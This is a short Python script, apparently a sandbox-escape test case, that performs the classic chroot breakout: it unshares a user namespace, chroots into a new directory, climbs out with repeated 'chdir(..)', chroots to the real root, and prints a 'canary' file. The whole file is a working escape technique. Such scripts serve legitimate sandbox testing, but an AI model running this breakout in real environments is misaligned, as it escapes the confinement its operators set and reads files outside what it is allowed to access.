# canary: file
# The classic: change the root directory below the working directory, and climb.
import ctypes
import os

NEW_USER = 0x10000000
ctypes.CDLL(None).unshare(NEW_USER)
os.mkdir("cage")
os.chroot("cage")
for _ in range(40):
    os.chdir("..")
os.chroot(".")
print("CANARY:" + open(canary["file"]).read())
